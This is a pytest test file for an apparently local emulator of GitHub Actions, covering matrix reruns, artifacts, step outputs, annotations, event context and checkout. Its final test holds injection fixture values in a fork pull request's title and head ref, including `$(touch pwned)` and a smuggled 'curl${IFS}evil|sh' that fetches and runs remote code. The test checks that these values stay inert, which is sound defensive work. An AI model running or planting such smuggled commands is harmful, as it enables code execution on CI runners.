"""The driver itself, on miniature actions: what a scenario may rely on."""

from __future__ import annotations

from pathlib import Path
from textwrap import dedent

import pytest
from runner.act import RUN_ID, TOKEN, Repository
from runner.events import moved, payload
from runner.log import Annotation

MINI = """
    name: mini
    description: counts, fails when told to, and says so in every way that a step can
    inputs:
      who: {description: a name, required: true}
      attempt: {description: the attempt, default: "${{ github.run_attempt }}"}
    outputs:
      greeting: {description: what it said, value: "${{ steps.greet.outputs.greeting }}"}
    runs:
      using: composite
      steps:
        - id: greet
          shell: bash
          env: {WHO: "${{ inputs.who }}", ATTEMPT: "${{ inputs.attempt }}"}
          run: |
            echo "greeting=hello $WHO" >> "$GITHUB_OUTPUT"
            echo "### $WHO, attempt $ATTEMPT" >> "$GITHUB_STEP_SUMMARY"
            echo "::error file=tests/a.py,line=3,title=50%25 done::first%0Asecond"
            mkdir out
            echo "$WHO" > out/who.txt
        - uses: actions/upload-artifact@043fb46d1a93c77aae656e7c1c64a875d1fc6a0a # v7.0.1
          with: {name: "who-${{ inputs.who }}-${{ inputs.attempt }}", path: out}
        - id: verdict
          shell: bash
          env: {WHO: "${{ inputs.who }}", ATTEMPT: "${{ inputs.attempt }}"}
          run: test "$WHO/$ATTEMPT" != b/1
    """
WORKFLOW = """
    on: [push, pull_request, merge_group]
    jobs:
      plan:
        runs-on: ubuntu-latest
        outputs: {matrix: "${{ steps.plan.outputs.matrix }}"}
        steps:
          - {id: plan, run: 'echo ''matrix={"include":[{"who":"a","n":1},{"who":"b","n":2}]}'' >> "$GITHUB_OUTPUT"'}
      greet:
        needs: plan
        runs-on: ubuntu-24.04
        strategy: {fail-fast: false, matrix: "${{ fromJSON(needs.plan.outputs.matrix) }}"}
        steps:
          - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
            with: {persist-credentials: false}
          - {id: mini, uses: org/mini@v1, with: {who: "${{ matrix.who }}"}}
          - {id: excused, run: exit 3, continue-on-error: true}
      merge:
        needs: [plan, greet]
        if: ${{ !cancelled() }}
        runs-on: ubuntu-slim
        steps:
          - uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1
            with: {path: all, merge-multiple: true, pattern: who-*}
          - env: {NEEDS: "${{ toJSON(needs.greet.result) }}"}
            run: echo "greet $NEEDS"; ls all
          - {id: only-main, if: "${{ github.ref == 'refs/heads/main' }}", run: echo on main}
      skipped:
        needs: greet
        runs-on: ubuntu-latest
        steps: [{run: echo never}]
    """


@pytest.fixture
def user(repository: Repository, tmp_path: Path) -> Repository:
    mini = tmp_path / "mini"
    mini.mkdir()
    repository.actions = {**repository.actions, "org/mini": mini}
    (mini / "action.yml").write_text(dedent(MINI))
    repository.write(".github/workflows/ci.yml", WORKFLOW).commit()
    return repository


def test_a_leg_fails_then_its_rerun_joins_the_artifacts_of_both_attempts(user: Repository) -> None:
    first = user.run("push")
    assert first.code == 1
    assert {job: first.result_of(job) for job in ("plan", "greet", "merge", "skipped")} == {
        "plan": "success",
        "greet": "failure",
        "merge": "success",
        "skipped": "skipped",
    }
    assert (first.result_of("greet", who="a"), first.result_of("greet", who="b")) == ("success", "failure")
    assert first.said("greet ") == ['greet "failure"']

    again = user.run("push", attempt=2, matrix=["who:b"])
    assert (again.code, again.said("greet ")) == (0, ['greet "success"'])
    assert sorted(user.store.names(RUN_ID)) == ["who-a-1", "who-b-1", "who-b-2"]


def test_the_log_gives_each_steps_result_outputs_summary_and_annotations(user: Repository) -> None:
    run = user.run("push", attempt=2)
    greet = run.step("greet", "mini/greet", who="b")
    assert greet.outputs == {"greeting": "hello b"} == run.step("greet", "mini", n=2).outputs
    assert greet.summary == "### b, attempt 2\n"
    assert sorted(run.summaries) == ["### a, attempt 2\n", "### b, attempt 2\n"]
    assert greet.annotations == [
        Annotation("error", "first\nsecond", {"file": "tests/a.py", "line": "3", "title": "50% done"})
    ]
    assert run.result_of("greet", "excused", who="a") == "failure"
    assert run.result_of("greet") == "success"


def test_a_step_that_is_named_nowhere_cannot_be_asked_for(user: Repository) -> None:
    run = user.run("push")
    assert run.result_of("merge", "only-main") == "success"
    with pytest.raises(AssertionError, match="has a step 'only-mian'"):
        run.result_of("merge", "only-mian")
    with pytest.raises(AssertionError, match="has a job 'mrege'"):
        run.result_of("mrege")


def test_an_action_without_a_stand_in_is_named(user: Repository) -> None:
    user.write(".github/workflows/other.yml", "on: push\njobs: {a: {steps: [{uses: actions/stale@v9}]}}").commit()
    with pytest.raises(LookupError, match=r"other\.yml: uses 'actions/stale@v9'"):
        user.run("push")


FACTS = """
    on: [push, pull_request, merge_group, schedule, workflow_run, workflow_dispatch]
    jobs:
      facts:
        runs-on: ubuntu-latest
        steps:
          - id: facts
            env:
              EXPRESSION: >-
                ${{ github.event_name }} ${{ github.ref }} ${{ github.base_ref }} ${{ github.run_id }}
                ${{ github.run_attempt }} ${{ github.api_url }} ${{ github.sha }}
            run: |
              echo "expression: $EXPRESSION"
              echo "environment: $GITHUB_EVENT_NAME $GITHUB_REF $GITHUB_BASE_REF $GITHUB_RUN_ID \\
              $GITHUB_RUN_ATTEMPT $GITHUB_API_URL $GITHUB_SHA" | tr -s ' '
          - run: test -e "$GITHUB_WORKSPACE/README" || echo "empty workspace"
          - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
            with: {path: here, persist-credentials: "${{ github.event_name == 'push' }}"}
          - run: 'echo "checked out: $(git -C here rev-parse HEAD) $(cat here/README)"; cat here/.git/config'
          - run: 'echo "seed: $(cat "$RUNNER_TEMP/a/seed"), tmp: $TMPDIR"; echo "PYTHONPATH: ${PYTHONPATH-}"'
    """
REFS = {
    "push": "refs/heads/main",
    "pull_request": "refs/pull/2/merge main",
    "merge_group": "refs/heads/gh-readonly-queue/main/pr-104-929f8209d40f77f4abc622a499c93a83babdbe64",
    "schedule": "refs/heads/main",
    "workflow_run": "refs/heads/main",
    "workflow_dispatch": "refs/heads/main",
}


@pytest.mark.parametrize("event", REFS)
def test_a_job_is_told_the_same_facts_as_on_github(
    event: str, repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTHONPATH", "of-the-tests")
    (tmp_path / "seed").write_text("sown")
    repository.seeds = {"a/seed": tmp_path / "seed"}
    head = repository.write("README", "read me").write(".github/workflows/ci.yml", FACTS).commit()
    run = repository.run(event, attempt=3, run_id=77, env={"GITHUB_API_URL": "http://127.0.0.1:1"})
    assert run.code == 0, run.text

    (expression,) = run.said("expression: ")
    (environment,) = run.said("environment: ")
    sha = expression.split()[-1]
    assert environment.split()[1:] == [event, *REFS[event].split(), "77", "3", "http://127.0.0.1:1", sha]
    assert expression.split()[1:] == environment.split()[1:]
    assert (sha == head) == (event != "pull_request")
    assert run.said("checked out: ") == [f"checked out: {sha} read me"]
    assert bool(run.said("extraheader")) == (event == "push")
    assert run.said("seed: sown")
    assert run.said("PYTHONPATH: ") == ["PYTHONPATH: "]
    assert run.said(TOKEN) == []


def test_a_python_of_the_jobs_own_has_pytest_and_what_the_job_installs(repository: Repository) -> None:
    workflow = """
        on: push
        jobs:
          own:
            runs-on: ubuntu-latest
            steps:
              - {id: before, run: python3 -c "import pytest", continue-on-error: true}
              - id: python
                uses: actions/setup-python@5fda3b95a4ea91299a34e894583c3862153e4b97 # v7.0.0
                with: {python-version: "3.12"}
              - env: {PYTHON: "${{ steps.python.outputs.python-path }}"}
                run: |
                  python -c "import pytest, xdist, sys; print('same:', sys.executable == '$PYTHON')"
                  pytest --version
                  pip --version
                  python -c "import ci_tools" 2>&1 | tail -1
        """
    repository.write(".github/workflows/ci.yml", workflow).commit()
    run = repository.run("push")
    assert run.code == 0, run.text
    assert run.result_of("own", "before") == "failure"
    assert run.said("same:") == ["same: True"]
    assert run.said("ci_tools") == ["ModuleNotFoundError: No module named 'ci_tools'"]


def test_a_forks_pull_request_keeps_its_head_and_its_hostile_text(repository: Repository) -> None:
    workflow = """
        on: pull_request
        jobs:
          text:
            runs-on: ubuntu-latest
            steps:
              - env: {TITLE: "${{ github.event.pull_request.title }}", HEAD: "${{ github.head_ref }}"}
                run: 'echo "title: $TITLE"; echo "head: $HEAD"; ls'
        """
    repository.write(".github/workflows/ci.yml", workflow).commit()
    event = moved(payload("fork_pull_request"), repository=repository.name, head_sha=repository.head)
    assert event["pull_request"]["head"]["repo"]["full_name"] == "mallory/Hello-World"
    assert event["pull_request"]["base"]["repo"]["full_name"] == repository.name
    run = repository.run("pull_request", payload=event)
    assert run.said("title: ") == ['title: `touch pwned` $(touch pwned) "; exit 1; # ${{ secrets.X }}']
    assert run.said("head: ") == ['head: patch-1";curl${IFS}evil|sh;#']
